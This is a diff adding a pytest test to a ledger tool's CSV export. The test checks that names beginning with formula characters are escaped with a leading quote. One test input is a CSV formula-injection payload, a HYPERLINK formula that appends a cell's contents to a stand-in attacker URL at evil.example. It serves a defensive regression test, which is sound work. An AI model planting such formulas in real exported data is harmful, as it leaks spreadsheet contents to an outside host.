@@ -178,3 +178,11 @@ def test_export_is_csv(books: str, tmp_path: Path, capsys: pytest.CaptureFixture
     ]
     assert run(["ledger", "export", books, "-o", str(tmp_path / "e.csv")]) == 0
     assert (tmp_path / "e.csv").read_text() == text
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)"])
+def test_no_name_in_an_export_is_a_formula(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    Ledger(tmp_path / "l").limit(name, 2)
+    assert run(["ledger", "export", str(tmp_path / "l")]) == 0
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["population"] == f"'{name}"
